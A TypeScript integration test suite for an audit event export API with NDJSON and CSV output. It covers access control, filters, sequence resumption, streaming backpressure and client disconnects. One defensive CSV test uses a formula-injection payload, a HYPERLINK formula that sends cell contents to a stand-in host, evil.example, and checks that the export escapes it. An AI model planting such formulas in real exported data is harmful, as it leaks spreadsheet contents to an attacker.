/**
 * The audit export over real HTTP: `GET /audit/v1/organizations/{id}/events.ndjson` and `.csv`
 * (README "Audit export"). Who may export, the filters of the `events` query, CSV that a spreadsheet
 * reads as text, a 20,000-event export streamed with backpressure (the server reads the next page only
 * when the client has taken the previous ones), and a client that hangs up mid-export.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import v8 from 'node:v8';
import vm from 'node:vm';
import { startTestServer, type TestServer } from '../helpers/harness.js';
import { createOrg, createUser, type OrgFixture } from '../helpers/fixtures.js';
import { withDb } from '../helpers/db.js';
import pg from 'pg';
import { CreateApiKeyDocument, CreateGroupDocument, EventsDocument, UpdateUserDocument } from '../generated/graphql.js';
import { CSV_COLUMNS } from '../../src/audit/event-format.js';
import { EXPORT_PAGE_SIZE } from '../../src/audit/router.js';

interface Exported {
  status: number;
  headers: Headers;
  text: string;
}

async function exportEvents(t: TestServer, org: string, key: string | null, format: 'ndjson' | 'csv', query = ''): Promise<Exported> {
  const res = await fetch(`${t.url}/audit/v1/organizations/${org}/events.${format}${query ? `?${query}` : ''}`, {
    headers: key ? { authorization: `Bearer ${key}` } : {},
  });
  return { status: res.status, headers: res.headers, text: await res.text() };
}

const lines = (text: string) =>
  text
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, any>);

/** RFC 4180 records: quoted fields with doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      assert.ok(c !== '\n' && c !== '"', `a bare ${JSON.stringify(c)} outside quotes at ${i}`);
      field += c;
      i++;
    }
  }
  assert.equal(field, '', 'the last record ends with CRLF');
  assert.equal(record.length, 0);
  return records;
}

describe('audit export', () => {
  let t: TestServer;
  let org: OrgFixture;
  let other: OrgFixture;
  let readOnly: string;
  before(async () => {
    t = await startTestServer();
    org = await createOrg(t);
    other = await createOrg(t);
    readOnly = (await t.gql(CreateApiKeyDocument, { organizationId: org.id, name: 'siem', role: 'READ_ONLY' })).createApiKey.token;
  });
  after(async () => {
    await t?.stop();
  });

  test('the same events as the events query, as NDJSON, oldest first', async () => {
    const u = await createUser(t, org, { userName: 'ada@acme.example' });
    await t.gql(UpdateUserDocument, { organizationId: org.id, id: u.id, input: { displayName: 'Ada' } }, org.key);
    const r = await exportEvents(t, org.id, readOnly, 'ndjson');
    assert.equal(r.status, 200);
    assert.equal(r.headers.get('content-type'), 'application/x-ndjson; charset=utf-8');
    assert.match(r.headers.get('content-disposition')!, new RegExp(`attachment; filename="events-${org.id}\\.ndjson"`));
    const { events } = await t.gql(EventsDocument, { organizationId: org.id, first: 1000 });
    assert.deepEqual(lines(r.text), events.nodes, 'field by field what the GraphQL query returns');
  });

  test('credentials: READ_ONLY and ADMIN keys and platform keys export; a SCIM token, another organization, no key do not', async () => {
    assert.equal((await exportEvents(t, org.id, readOnly, 'csv')).status, 200);
    assert.equal((await exportEvents(t, org.id, org.key, 'ndjson')).status, 200);
    assert.equal((await exportEvents(t, org.id, t.adminKey, 'ndjson')).status, 200);

    const scim = await exportEvents(t, org.id, org.scimToken, 'ndjson');
    assert.equal(scim.status, 403);
    assert.equal(JSON.parse(scim.text).code, 'FORBIDDEN');
    const foreign = await exportEvents(t, org.id, other.key, 'ndjson');
    assert.equal(foreign.status, 404, 'another organization learns nothing about this one');
    assert.equal(JSON.parse(foreign.text).reason, 'organization.notFound');
    const none = await exportEvents(t, org.id, null, 'ndjson');
    assert.equal(none.status, 401);
    assert.equal(none.headers.get('www-authenticate'), 'Bearer realm="audit"');
    assert.equal((await exportEvents(t, org.id, 'idm_key_nope_nope', 'ndjson')).status, 401);
    assert.equal((await exportEvents(t, 'not-a-uuid', t.adminKey, 'ndjson')).status, 404);
    assert.equal((await exportEvents(t, '00000000-0000-4000-8000-000000000000', t.adminKey, 'ndjson')).status, 404, 'no such organization');
  });

  test('filters: the events query’s, by name; an unknown or malformed parameter is 400, not ignored', async () => {
    const a = await createUser(t, org, { userName: 'filter-a@acme.example' });
    const b = await createUser(t, org, { userName: 'filter-b@acme.example' });
    await t.gql(UpdateUserDocument, { organizationId: org.id, id: a.id, input: { title: 'Engineer' } }, org.key);
    const seqOf = async (id: string) =>
      (await t.gql(EventsDocument, { organizationId: org.id, filter: { subjectId: id, types: ['USER_CREATED'] } })).events.nodes[0]!.sequence;

    const bySubject = lines((await exportEvents(t, org.id, readOnly, 'ndjson', `subjectId=${a.id}`)).text);
    assert.deepEqual(
      bySubject.map((e) => e.type),
      ['USER_CREATED', 'USER_UPDATED'],
    );
    const updates = lines((await exportEvents(t, org.id, readOnly, 'ndjson', 'types=USER_UPDATED')).text);
    assert.ok(updates.length >= 1 && updates.every((e) => e.type === 'USER_UPDATED'));
    const two = lines((await exportEvents(t, org.id, readOnly, 'ndjson', 'types=USER_UPDATED,USER_CREATED&involving=' + b.id)).text);
    assert.deepEqual(
      two.map((e) => e.subjectId),
      [b.id],
    );
    const repeated = lines((await exportEvents(t, org.id, readOnly, 'ndjson', 'types=USER_UPDATED&types=USER_CREATED')).text);
    assert.ok(repeated.some((e) => e.type === 'USER_CREATED') && repeated.some((e) => e.type === 'USER_UPDATED'));

    const from = await seqOf(a.id);
    const resumed = lines((await exportEvents(t, org.id, readOnly, 'ndjson', `afterSequence=${from}`)).text);
    assert.ok(resumed.length >= 2 && resumed.every((e) => e.sequence > from), 'afterSequence is exclusive');
    const upTo = lines((await exportEvents(t, org.id, readOnly, 'ndjson', `beforeSequence=${from}`)).text);
    assert.ok(upTo.every((e) => e.sequence < from));
    assert.deepEqual(lines((await exportEvents(t, org.id, readOnly, 'ndjson', 'since=2999-01-01')).text), []);
    assert.ok(lines((await exportEvents(t, org.id, readOnly, 'ndjson', 'until=2999-01-01T00:00:00Z&actorType=API_KEY')).text).length >= 3);

    for (const bad of [
      'aftersequence=5',
      'afterSequence=-1',
      'afterSequence=1e3',
      'since=yesterday',
      'types=user_created',
      'subjectId=a&subjectId=b',
      'types=NO_SUCH_TYPE',
    ]) {
      const r = await exportEvents(t, org.id, readOnly, 'ndjson', bad);
      assert.equal(r.status, 400, `${bad}: ${r.text}`);
      assert.equal(JSON.parse(r.text).code, 'BAD_USER_INPUT', bad);
    }
  });

  test('afterSequence resumes at least once: an event numbered before it that committed after it is exported too', async () => {
    const o = await createOrg(t);
    // a slow writer: its event takes its sequence now and commits after a later one
    const slow = new pg.Client({ connectionString: t.databaseUrl });
    await slow.connect();
    try {
      await slow.query('begin');
      const { rows } = await slow.query(
        `insert into events (organization_id, type, actor_type, actor_label, subject_type, subject_label, changes, data)
         values ($1, 'USER_UPDATED', 'API_KEY', 'slow writer', 'USER', 'slow', '{}', '{}') returning seq`,
        [o.id],
      );
      const lateSeq = Number(rows[0].seq);
      await createUser(t, o, { userName: 'fast@acme.example' });
      const before = lines((await exportEvents(t, o.id, o.key, 'ndjson')).text);
      const last = before[before.length - 1]!.sequence as number;
      assert.ok(last > lateSeq && !before.some((e) => e.sequence === lateSeq), 'not committed yet: not exported');
      await slow.query('commit');
      const resumed = lines((await exportEvents(t, o.id, o.key, 'ndjson', `afterSequence=${last}`)).text);
      assert.deepEqual(
        resumed.map((e) => e.sequence),
        [lateSeq],
        'the late event, and nothing the client had',
      );
      // the events query: filter.resumeAfterSequence does the same, filter.afterSequence is exclusive
      const q = await t.gql(EventsDocument, { organizationId: o.id, filter: { resumeAfterSequence: last } }, o.key);
      assert.deepEqual(
        q.events.nodes.map((e) => e.sequence),
        [lateSeq],
      );
      assert.deepEqual((await t.gql(EventsDocument, { organizationId: o.id, filter: { afterSequence: last } }, o.key)).events.nodes, []);
    } finally {
      await slow.query('rollback').catch(() => {});
      await slow.end();
    }
  });

  test('CSV: RFC 4180 records, and cells a spreadsheet would run as a formula are text', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"click"), really';
    await t.gql(CreateGroupDocument, { organizationId: org.id, input: { displayName: name } }, org.key);
    await t.gql(CreateGroupDocument, { organizationId: org.id, input: { displayName: '@SUM(1+1)' } }, org.key);
    const csv = await exportEvents(t, org.id, readOnly, 'csv', 'types=GROUP_CREATED');
    assert.equal(csv.status, 200);
    assert.equal(csv.headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
    const records = parseCsv(csv.text);
    assert.deepEqual(records[0], [...CSV_COLUMNS]);
    const label = CSV_COLUMNS.indexOf('subjectLabel');
    assert.deepEqual(
      records.slice(1).map((r) => r[label]),
      [`'${name}`, "'@SUM(1+1)"],
    );
    // every other cell is the NDJSON value (objects as JSON text)
    const json = lines((await exportEvents(t, org.id, readOnly, 'ndjson', 'types=GROUP_CREATED')).text);
    for (const [i, e] of json.entries()) {
      for (const [c, col] of CSV_COLUMNS.entries()) {
        if (col === 'subjectLabel') continue;
        const v = e[col];
        assert.equal(records[i + 1]![c], v === null ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v), col);
      }
    }
  });

  test('20,000 events: streamed a page at a time, the next read only when the client takes more; all of them, in order', async () => {
    const big = await createOrg(t);
    const N = 20_000;
    // 1.5 KB each (30 MB in all, far more than socket buffers hold), written as the event writer writes them
    await withDb(t.databaseUrl, (db) =>
      db.query(
        `insert into events (organization_id, type, actor_type, actor_label, subject_type, subject_label, changes, data)
         select $1, 'USER_UPDATED', 'SYSTEM', 'bulk', 'USER', 'user-' || i, jsonb_build_object('note', jsonb_build_object('before', null, 'after', repeat('x', 1400))), '{}'
           from generate_series(1, $2::int) i`,
        [big.id, N],
      ),
    );
    const runner = t.server.app.runner;
    const run = runner.run.bind(runner);
    let pages = 0;
    runner.run = ((...args: Parameters<typeof run>) => {
      if (String(args[1]).includes('AuditExportPage')) pages++;
      return run(...args);
    }) as typeof runner.run;
    try {
      const res = await new Promise<http.IncomingMessage>((resolve, reject) =>
        http
          .get(`${t.url}/audit/v1/organizations/${big.id}/events.ndjson?types=USER_UPDATED`, { headers: { authorization: `Bearer ${big.key}` } }, resolve)
          .on('error', reject),
      );
      assert.equal(res.statusCode, 200);
      res.pause();
      // the client takes nothing: the server stops once the socket buffers are full, a few pages in
      const settled = async () => {
        for (let last = -1; last !== pages;) {
          last = pages;
          await new Promise((r) => setTimeout(r, 300));
        }
        return pages;
      };
      const paused = await settled();
      // live memory (after a full collection) while it streams: it must not grow with the export
      v8.setFlagsFromString('--expose-gc');
      const gc = vm.runInNewContext('gc') as () => void;
      const live = () => {
        gc();
        return process.memoryUsage().heapUsed;
      };
      const heapPaused = live();
      let heapMax = heapPaused;
      assert.ok(paused < N / EXPORT_PAGE_SIZE / 2, `read ${paused} of ${N / EXPORT_PAGE_SIZE} pages while the client took nothing`);

      let count = 0;
      let previous = 0;
      let rest = '';
      let bytes = 0;
      for await (const chunk of res) {
        bytes += chunk.length;
        const text = rest + String(chunk);
        const parts = text.split('\n');
        rest = parts.pop()!;
        for (const p of parts) {
          const e = JSON.parse(p);
          assert.ok(e.sequence > previous, 'in sequence order, no repeat');
          previous = e.sequence;
          count++;
          if (count % 4000 === 0) heapMax = Math.max(heapMax, live());
        }
      }
      assert.equal(rest, '');
      assert.equal(count, N);
      assert.equal(pages, N / EXPORT_PAGE_SIZE, 'one query per page');
      assert.ok(bytes > 30e6);
      // the whole export as text would be 30 MB (60 MB as UTF-16 strings)
      assert.ok(heapMax - heapPaused < 15e6, `live heap grew ${((heapMax - heapPaused) / 1e6).toFixed(1)} MB while streaming`);
    } finally {
      runner.run = run;
    }
  });

  test('a client that hangs up mid-export stops the reads', async () => {
    const big = await createOrg(t);
    await withDb(t.databaseUrl, (db) =>
      db.query(
        `insert into events (organization_id, type, actor_type, actor_label, subject_type, subject_label, changes, data)
         select $1, 'USER_UPDATED', 'SYSTEM', 'bulk', 'USER', 'user-' || i, jsonb_build_object('note', repeat('y', 1400)), '{}' from generate_series(1, 10000) i`,
        [big.id],
      ),
    );
    const runner = t.server.app.runner;
    const run = runner.run.bind(runner);
    let pages = 0;
    runner.run = ((...args: Parameters<typeof run>) => {
      if (String(args[1]).includes('AuditExportPage')) pages++;
      return run(...args);
    }) as typeof runner.run;
    try {
      await new Promise<void>((resolve, reject) => {
        const req = http.get(`${t.url}/audit/v1/organizations/${big.id}/events.csv`, { headers: { authorization: `Bearer ${big.key}` } }, (res) => {
          res.once('data', () => {
            req.destroy();
            resolve();
          });
        });
        req.on('error', () => {});
        req.on('close', () => resolve());
        setTimeout(() => reject(new Error('no data')), 10_000).unref();
      });
      let last = -1;
      while (last !== pages) {
        last = pages;
        await new Promise((r) => setTimeout(r, 300));
      }
      assert.ok(pages < 5, `${pages} of 10 pages read after the client left`);
      // the server is fine afterwards
      assert.equal((await exportEvents(t, org.id, readOnly, 'ndjson', 'types=GROUP_CREATED')).status, 200);
    } finally {
      runner.run = run;
    }
  });
});
